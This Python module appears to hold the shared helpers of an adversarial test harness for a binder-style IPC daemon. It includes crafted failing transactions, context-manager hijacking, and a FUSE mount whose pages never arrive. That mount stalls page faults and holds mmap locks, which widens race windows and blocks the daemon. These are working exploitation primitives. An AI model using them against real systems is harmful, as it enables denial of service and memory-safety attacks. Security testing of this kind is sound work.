# SPDX-License-Identifier: Apache-2.0
"""What the attack programs have in common: a user, an open device, payloads, a silent file system.

An attack program gets a directory and a size. It prepares itself, says "now", does harm, says
"done" if it can, and stays until it is killed with all that it has forked.
"""

from __future__ import annotations

import ctypes
import os
import resource
import struct
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING, Final, NamedTuple, NoReturn

from binderwire import binder_abi as abi
from binderwire import fuse_abi as fuse
from channel.rawclient import PAGE, Device, anonymous, peek, say, wait_for_line

if TYPE_CHECKING:
    from collections.abc import Sequence

__all__ = ["Device", "anonymous", "peek", "say", "wait_for_line"]

MALLORY: Final = 4002  # the attacking user

_PR_SET_PDEATHSIG: Final = 1
_PR_SET_DUMPABLE: Final = 4
_CLONE_NEWNS: Final = 0x20000
_CLONE_NEWUSER: Final = 0x10000000
_MADV_RANDOM: Final = 1
_MS_NOSUID_NODEV: Final = 2 | 4
_MS_PRIVATE: Final = 0x4000 | 1 << 18  # recursively
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.argtypes = [ctypes.c_size_t, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
_libc.mmap.restype = ctypes.c_size_t
_libc.madvise.argtypes = [ctypes.c_size_t, ctypes.c_size_t, ctypes.c_int]


Tell = Callable[[], object]  # what a child calls when it is ready


class Place(NamedTuple):
    """Where an attack happens."""

    folder: str  # writable
    devices: str  # the mount; the attacker's devices are his, his1, his2 ...
    size: int


def begin() -> Place:
    """Become the attacking user; return what the command line says."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    _become_the_user()
    return _place()


def _place() -> Place:
    return Place(sys.argv[1], f"{sys.argv[1]}/mount", int(sys.argv[2]))


def _become_the_user() -> None:
    os.setgroups([])
    os.setresgid(MALLORY, MALLORY, MALLORY)
    os.setresuid(MALLORY, MALLORY, MALLORY)
    # As if this user had started the program: it may be looked at, and map its own user.
    _libc.prctl(_PR_SET_DUMPABLE, 1, 0, 0, 0)


def child(work: Callable[[], object]) -> int:
    """Do something in a process of its own; return its number."""
    number = os.fork()
    if number:
        return number
    _libc.prctl(_PR_SET_PDEATHSIG, 9, 0, 0, 0)
    try:
        work()
    except BaseException as error:
        print(f"child: {error!r}", file=sys.stderr, flush=True)
        os._exit(1)
    os._exit(0)


def child_that_says(work: Callable[[Tell], object]) -> int:
    """The same, and wait until it calls what it is given."""
    reading, writing = os.pipe()

    def and_say() -> None:
        work(lambda: os.write(writing, b"."))

    number = child(and_say)
    os.close(writing)
    assert os.read(reading, 1), "a child has ended too early"
    os.close(reading)
    return number


def rest() -> NoReturn:
    """Keep everything until the end."""
    while True:
        time.sleep(1000)


def finish() -> NoReturn:
    """Say that it is done, and keep everything."""
    say("done")
    rest()


def for_seconds(seconds: float, work: Callable[[], object]) -> None:
    """Do something again and again."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        work()


# Payloads


class Parcel:
    """What a transaction is made of; it must stay while the commands are used."""

    def __init__(
        self,
        objects: Sequence[bytes] = (),
        size: int | None = None,
        *,
        handle: int = 0,
        flags: int = abi.TF_ONE_WAY,
        buffers_size: int | None = None,
    ) -> None:
        """Lay it out.

        Args:
            objects: one behind the other, with an offset each.
            size: of the payload, bytes; None: that of the objects.
            buffers_size: for BC_TRANSACTION_SG.
        """
        payload = b"".join(objects)
        offsets, at = [], 0
        for item in objects:
            offsets.append(at)
            at += len(item)
        size = len(payload) if size is None else size
        self.payload = ctypes.create_string_buffer(payload, max(size, 1))
        self.offsets = (ctypes.c_uint64 * max(len(offsets), 1))(*offsets)
        body = abi.binder_transaction_data.build(
            target=handle,
            flags=flags,
            data_size=size,
            buffer=ctypes.addressof(self.payload),
            offsets_size=8 * len(offsets),
            offsets=ctypes.addressof(self.offsets),
        )
        word = abi.BC_TRANSACTION if buffers_size is None else abi.BC_TRANSACTION_SG
        tail = b"" if buffers_size is None else struct.pack("=Q", buffers_size)
        self.command = struct.pack("=I", word) + body + tail


def binders(count: int, first: int = 1) -> list[bytes]:
    """Return nodes of the sender's."""
    kind = abi.BINDER_TYPE_BINDER
    return [abi.flat_binder_object.pack(kind, 0, 16 * n, n) for n in range(first, first + count)]


NONSENSE: Final = bytes(24)  # an object that fails its transaction when its turn comes


def file_in_vain(fd: int) -> Parcel:
    """A file in a transaction that fails, so that what was taken is closed again."""
    return Parcel([abi.binder_fd_object.build(type=abi.BINDER_TYPE_FD, fd=fd), NONSENSE])


def manager(device: Device, flags: int = abi.FLAT_BINDER_FLAG_ACCEPTS_FDS) -> None:
    node = abi.flat_binder_object.build(type=abi.BINDER_TYPE_BINDER, flags=flags)
    device.ioctl(abi.BINDER_SET_CONTEXT_MGR_EXT, node)


def own_receiver(path: str) -> int:
    """Have a context manager that reads nothing; return its process."""

    def receive(tell: Tell) -> None:
        manager(Device(path, 4 << 20))
        tell()
        rest()

    return child_that_says(receive)


# Memory that does not answer


def own_namespace() -> None:
    """Enter a user and a mount namespace of one's own, as anybody may."""
    if _libc.unshare(_CLONE_NEWUSER | _CLONE_NEWNS):
        raise OSError(ctypes.get_errno(), "unshare")
    for name, text in (("setgroups", "deny"), ("uid_map", ""), ("gid_map", "")):
        with open(f"/proc/self/{name}", "w", encoding="ascii") as file:
            file.write(text or f"0 {MALLORY} 1")


def mount(kind: str, where: str, options: str, flags: int = 0) -> None:
    os.makedirs(where, exist_ok=True)
    if _libc.mount(b"hostile", where.encode(), kind.encode(), flags, options.encode()):
        raise OSError(ctypes.get_errno(), f"mount {kind}")


class SilentMount:
    """A file system with one file, ``x``, whose pages come late or never.

    It is mounted as fusermount3 does it for anybody, so it must be made before ``begin``. (A mount
    that a user makes in a namespace of his own is no danger: root has no number there, and the
    kernel fails his page faults.)

    Args:
        delay: seconds for each page; None: for ever. They are full of BC_ENTER_LOOPER.
        name: of the mount, if there are several.
        is_shared: does it serve others as well, and answer nothing about a file once it is open?
    """

    def __init__(
        self,
        pages: int = 4,
        delay: float | None = None,
        name: str = "silent",
        *,
        is_shared: bool = False,
    ) -> None:
        where = f"{_place().folder}/{name}"
        self.file = f"{where}/x"
        self._asked, asked = os.pipe()
        # Gone with this process and its children.
        if _libc.unshare(_CLONE_NEWNS) or _libc.mount(None, b"/", None, _MS_PRIVATE, None):
            raise OSError(ctypes.get_errno(), "mount namespace")
        channel = os.open("/dev/fuse", os.O_RDWR)
        options = f"fd={channel},rootmode=40000,user_id={MALLORY},group_id={MALLORY}"
        options += ",allow_other" if is_shared else ""
        mount("fuse", where, options, _MS_NOSUID_NODEV)
        child(lambda: _serve(channel, pages * PAGE, delay, asked, is_shared))
        os.close(channel)
        os.close(asked)

    def wait_until_asked(self) -> None:
        """Return once somebody waits for a page."""
        os.read(self._asked, 1)

    def hold_mapping_lock(self) -> None:
        """Have a thread begin an mmap that holds the lock of this address space for ever."""
        file = os.open(self.file, os.O_RDONLY)
        direct = os.open(self.file, os.O_RDONLY | os.O_APPEND)
        child(lambda: os.pread(file, 1, 0))
        self.wait_until_asked()  # that page is locked now, and mapping directly discards pages
        numbers, held = os.pipe(), os.pipe()
        child(lambda: _tell_when_stuck(numbers[0], held[1]))

        def map_it() -> None:
            os.write(numbers[1], b"%d" % threading.get_native_id())
            _libc.mmap(0, PAGE, 1, 2, direct, 0)

        threading.Thread(target=map_it, daemon=True).start()
        os.read(held[0], 1)


def _tell_when_stuck(reading: int, writing: int) -> None:
    """Be told a thread of the parent's; tell when it sleeps where no signal wakes it."""
    place = f"/proc/{os.getppid()}/task/{int(os.read(reading, 16))}/stat"
    while b") D " not in Path(place).read_bytes():
        os.sched_yield()
    os.write(writing, b".")


def _serve(channel: int, size: int, delay: float | None, asked: int, keeps_all: bool) -> None:
    _become_the_user()
    while True:
        frame = os.read(channel, 1 << 17)
        _, opcode, unique, nodeid, *_ = fuse.fuse_in_header.unpack_from(frame)
        error, body = 0, b""
        is_file = nodeid == 2
        if opcode == fuse.FUSE_INIT:
            body = fuse.fuse_init_out.build(major=7, minor=31, max_write=4096)
        elif opcode == fuse.FUSE_LOOKUP:
            body = fuse.fuse_entry_out.build(nodeid=2, ino=2, mode=0o100755, size=size, nlink=1)
        elif keeps_all and (opcode == fuse.FUSE_FLUSH or (opcode == fuse.FUSE_GETATTR and is_file)):
            continue
        elif opcode == fuse.FUSE_GETATTR:
            mode = 0o100755 if is_file else 0o40755
            body = fuse.fuse_attr_out.build(ino=nodeid, mode=mode, size=size * is_file, nlink=1)
        elif opcode == fuse.FUSE_STATFS:
            body = bytes(fuse.fuse_kstatfs.size)
        elif opcode in (fuse.FUSE_OPEN, fuse.FUSE_OPENDIR):
            flags = struct.unpack_from("=I", frame, fuse.fuse_in_header.size)[0]
            body = fuse.fuse_open_out.pack(1, bool(flags & os.O_APPEND), 0)  # FOPEN_DIRECT_IO
        elif opcode == fuse.FUSE_READ:
            os.write(asked, b".")
            if delay is None:
                continue
            time.sleep(delay)
            body = struct.pack("=I", abi.BC_ENTER_LOOPER) * (PAGE // 4)
        elif opcode not in (fuse.FUSE_FLUSH, fuse.FUSE_RELEASE, fuse.FUSE_RELEASEDIR):
            error = -38
        if opcode not in (fuse.FUSE_FORGET, fuse.FUSE_INTERRUPT):
            out = fuse.fuse_out_header.pack(fuse.fuse_out_header.size + len(body), error, unique)
            os.write(channel, out + body)


def map_page_by_page(path: str, pages: int) -> int:
    """Map a file privately, without reading ahead; return the address."""
    fd = os.open(path, os.O_RDONLY)
    address = int(_libc.mmap(0, pages * PAGE, 1, 2, fd, 0))
    if address == 2**64 - 1:
        raise OSError(ctypes.get_errno(), "mmap")
    assert _libc.madvise(address, pages * PAGE, _MADV_RANDOM) == 0
    return address


def write_from(device: Device, address: int, size: int) -> None:
    """Have the daemon read commands from there, whatever comes of it."""
    with suppress(OSError):
        device.ioctl(abi.BINDER_WRITE_READ, abi.binder_write_read.pack(size, 0, address, 0, 0, 0))
